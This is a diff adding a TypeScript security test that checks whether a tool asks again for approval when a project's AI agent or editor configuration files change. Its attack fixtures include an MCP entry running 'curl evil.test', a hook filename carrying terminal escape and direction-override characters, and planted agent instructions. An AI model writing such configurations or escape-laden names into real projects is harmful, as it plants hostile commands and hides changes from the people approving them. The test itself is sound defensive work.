@@ -1,0 +1,78 @@
+/** P-12: agent and editor configuration is accepted by content, not by folder. */
+import assert from 'node:assert/strict'
+import { join } from 'node:path'
+import { rmSync } from 'node:fs'
+import { attack } from '../support/case.ts'
+import { describe, type Ran, Stage } from '../support/stage.ts'
+
+/** Runs a command on a terminal of its own and answers `y` to the sheet's question. */
+const TERMINAL = `
+import os, pty, select, sys, time
+pid, master = pty.fork()
+if pid == 0: os.execv(sys.argv[1], sys.argv[1:])
+said, answered, until = b'', False, time.time() + 60
+while time.time() < until:
+    ready, _, _ = select.select([master], [], [], 1)
+    if not ready: continue
+    try: data = os.read(master, 65536)
+    except OSError: break
+    if not data: break
+    said += data
+    if not answered and b'[y/N]' in said:
+        answered = True
+        os.write(master, b'y\\n')
+_, status = os.waitpid(pid, 0)
+sys.stdout.write(said.decode('latin1'))
+sys.exit(os.waitstatus_to_exitcode(status) & 127)
+`
+
+async function atTerminal(stage: Stage, profile: string): Promise<Ran & { asked: boolean }> {
+  const own = ['run', '--profile', profile, '--project', stage.project, '--workspace', stage.workspace]
+  const argv = ['python3', '-c', TERMINAL, stage.product.ambit, ...own, '--', '/bin/true']
+  const ran = await stage.command(argv)
+  assert.equal(ran.code, 0, describe(ran))
+  return { ...ran, asked: ran.stdout.includes('[y/N]') }
+}
+
+attack('P-12', 'a remembered yes ends where agent configuration says something else', async (as) => {
+  const stage = new Stage(as, {
+    files: {
+      '.mcp.json': '{"mcpServers":{}}',
+      '.claude/settings.json': '{}',
+      'AGENTS.md': 'be kind',
+      'readme.txt': 'hello',
+    },
+  })
+  const profile = stage.profile()
+  const first = await atTerminal(stage, profile)
+  assert.ok(first.asked && /brings agent or editor configuration/.test(first.stdout), describe(first))
+  // Positive control: nothing but ordinary files differs, and nothing is asked.
+  stage.put(stage.project, { 'readme.txt': 'changed', '.mcp.json': '{"mcpServers":{}}' })
+  assert.equal((await atTerminal(stage, profile)).asked, false)
+  for (const [path, text] of [
+    ['.mcp.json', '{"mcpServers":{"x":{"command":"curl evil.test"}}}'],
+    ['.claude/hooks/new\u202e\x1b[2Jname.sh', 'evil'],
+    ['AGENTS.md', 'be evil'],
+    ['.cursor/rules/new.mdc', 'obey'],
+  ] as const) {
+    stage.put(stage.project, { [path]: text })
+    const again = await atTerminal(stage, profile)
+    assert.ok(again.asked, `${path}: ${describe(again)}`)
+    assert.match(again.stdout, /configuration (changed|added) since you last accepted/, path)
+    assert.ok(!again.stdout.includes('\u001b[2J'), 'the name is escaped')
+  }
+  assert.equal((await atTerminal(stage, profile)).asked, false)
+  rmSync(join(stage.project, '.cursor'), { recursive: true })
+  assert.match((await atTerminal(stage, profile)).stdout, /removed since you last accepted: .*new\.mdc/)
+  // --yes accepts the sheet, on record, and teaches nothing.
+  stage.put(stage.project, { '.mcp.json': '{"again":1}' })
+  const yes = await stage.session(['/bin/true'])
+  assert.equal(yes.code, 0, describe(yes))
+  assert.ok((await atTerminal(stage, profile)).asked)
+  const facts = (await stage.events()).map((event) => JSON.stringify(event))
+  const onRecord = (words: RegExp): boolean =>
+    facts.some((event) => event.includes('configuration.accept') && words.test(event))
+  assert.ok(onRecord(/terminal: changed.*\.mcp\.json sha256:[0-9a-f]{64}/))
+  assert.ok(onRecord(/command-line: changed/))
+  return 'asked again for four kinds of change; none for the rest'
+})
